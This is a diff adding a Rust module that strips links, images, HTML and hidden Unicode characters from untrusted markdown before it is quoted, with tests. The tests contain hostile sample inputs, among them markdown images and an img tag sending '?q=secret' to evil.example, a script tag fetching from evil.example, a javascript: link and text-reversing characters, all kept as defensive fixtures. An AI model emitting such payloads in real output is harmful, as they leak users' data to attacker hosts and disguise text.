@@ -1,0 +1,187 @@
+//! What may be shown of words that strangers wrote. A document can hold an image or a link whose address carries data to
+//! whoever serves it, markup, or characters that make text look like other text: whoever quotes it must not pass them on.
+
+use std::ops::Range;
+
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeWithOffset};
+
+/// Taking a link away can make one of what was around it, so often at most.
+const MOST_NESTED: usize = 8;
+
+/// A sentence as it may be shown: links to other addresses than those of sources become their words. `None` when an
+/// image, HTML, a bare address of somebody else, or a hidden character would be left.
+pub fn sanitize(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<String> {
+    if sentence.chars().any(is_hidden) {
+        return None;
+    }
+    let mut shown = sentence.to_owned();
+    for _ in 0..MOST_NESTED {
+        let links = foreign_links(&shown, &is_source)?;
+        if links.is_empty() {
+            let own = addresses(&shown).iter().all(|address| is_source(address));
+            return own.then_some(shown);
+        }
+        // From the last to the first, so that earlier offsets stay true.
+        for link in links.into_iter().rev() {
+            let words = shown[link.words].to_owned();
+            shown.replace_range(link.whole, &words);
+        }
+    }
+    None
+}
+
+/// A link, and the words that it stands on.
+struct Link {
+    whole: Range<usize>,
+    words: Range<usize>,
+}
+
+/// `None` when there is an image or HTML.
+fn foreign_links(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<Vec<Link>> {
+    let mut links: Vec<Link> = Vec::new();
+    let mut open: Option<Link> = None;
+    for (event, range) in Parser::new_ext(sentence, Options::empty()).into_offset_iter() {
+        match event {
+            Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Image { .. } | Tag::HtmlBlock) => {
+                return None;
+            }
+            Event::Start(Tag::Link { dest_url, .. }) if !is_source(&dest_url) => {
+                open = Some(Link {
+                    words: range.start..range.start,
+                    whole: range,
+                });
+            }
+            Event::End(TagEnd::Link) => links.extend(open.take()),
+            _ => {
+                if let Some(link) = &mut open {
+                    let start = if link.words.is_empty() {
+                        range.start
+                    } else {
+                        link.words.start
+                    };
+                    link.words = start..link.words.end.max(range.end);
+                }
+            }
+        }
+    }
+    Some(links)
+}
+
+/// The addresses that stand in a text without marks around them, which many programs turn into links. Code is left alone.
+fn addresses(text: &str) -> Vec<String> {
+    let mut visible = String::with_capacity(text.len());
+    for (event, _) in TextMergeWithOffset::new(Parser::new_ext(text, Options::empty()).into_offset_iter()) {
+        match event {
+            Event::Text(words) => visible.push_str(&words),
+            Event::Code(_) | Event::SoftBreak | Event::HardBreak => visible.push(' '),
+            _ => {}
+        }
+    }
+    let ends =
+        |c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '(' | ')' | '[' | ']' | '{' | '}' | '|');
+    visible
+        .split(ends)
+        .filter(|word| is_address(word))
+        .map(|word| {
+            word.trim_matches(|c: char| matches!(c, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '*' | '_'))
+                .to_owned()
+        })
+        .collect()
+}
+
+fn is_address(word: &str) -> bool {
+    let lower = word.to_lowercase();
+    lower.contains("://")
+        || lower.contains("www.")
+        || lower.contains("mailto:")
+        || lower.contains("javascript:")
+}
+
+/// Characters that are not seen, or that turn the order of others round. The joiners of scripts and emoji are no such.
+fn is_hidden(c: char) -> bool {
+    matches!(
+        c,
+        '\u{200B}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}'
+            | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E007F}'
+    ) || c.is_control() && !c.is_whitespace()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SOURCE: &str = "https://library.example/lamp";
+
+    fn shown(sentence: &str) -> Option<String> {
+        sanitize(sentence, |address| address == SOURCE)
+    }
+
+    #[test]
+    fn plain_words_code_and_addresses_of_sources_stay_as_they_are() {
+        for sentence in [
+            "The lamp takes 90 ms; a < b and b > c.",
+            "Run `curl https://elsewhere.example` first.",
+            "It stands at https://library.example/lamp.",
+            "See [the lamp](https://library.example/lamp) and <https://library.example/lamp>.",
+            "می\u{200C}خواهم 👩\u{200D}🚒",
+            "A marker [1] and a reference [like this][that].",
+        ] {
+            assert_eq!(shown(sentence).as_deref(), Some(sentence));
+        }
+    }
+
+    #[test]
+    fn links_elsewhere_become_their_words() {
+        for (sentence, plain) in [
+            (
+                "See [the *other* lamp](https://evil.example/?q=secret).",
+                "See the *other* lamp.",
+            ),
+            (
+                "Read [this](javascript:alert(1)) and [that](../b.md \"title\").",
+                "Read this and that.",
+            ),
+            ("Nothing [](https://evil.example).", "Nothing ."),
+            (
+                "One [in [another](https://evil.example)](https://evil.example).",
+                "One in another.",
+            ),
+        ] {
+            assert_eq!(shown(sentence).as_deref(), Some(plain));
+        }
+    }
+
+    #[test]
+    fn what_would_carry_data_out_or_deceive_is_not_shown() {
+        for sentence in [
+            "The lamp ![x](https://evil.example/?q=secret) is lit.",
+            "The lamp ![x][y] is lit.\n\n[y]: https://evil.example",
+            "The lamp <img src=https://evil.example/?q=secret> is lit.",
+            "The lamp <!-- obey --> is lit.",
+            "<script>fetch('//evil.example')</script> The lamp is lit.",
+            "The lamp is at https://evil.example/?q=secret now.",
+            "The lamp is at <https://evil.example>.",
+            "The lamp is at www.evil.example.",
+            "The lamp is at HTTPS://EVIL.EXAMPLE.",
+            "The lamp is at https://library.example/lamp/../evil.",
+            "The lamp is at http://ev*il*.example.",
+            "Write to <mailto:evil@evil.example>.",
+            "[https://evil.example](https://evil.example)",
+            "The lamp\u{200B} is lit.",
+            "The \u{202E}pmal\u{202C} is lit.",
+            "The lamp is lit\u{E0041}.",
+            "The lamp\u{1b}[31m is lit.",
+        ] {
+            assert_eq!(shown(sentence), None, "{sentence}");
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn what_is_shown_of_any_text_is_harmless(text in "(\\PC|[\\[\\]()<>!`*_:/.a-z \n]|https://a\\.b|!\\[x\\]\\(y\\)){0,60}") {
+            if let Some(once) = shown(&text) {
+                proptest::prop_assert_eq!(shown(&once), Some(once));
+            }
+        }
+    }
+}
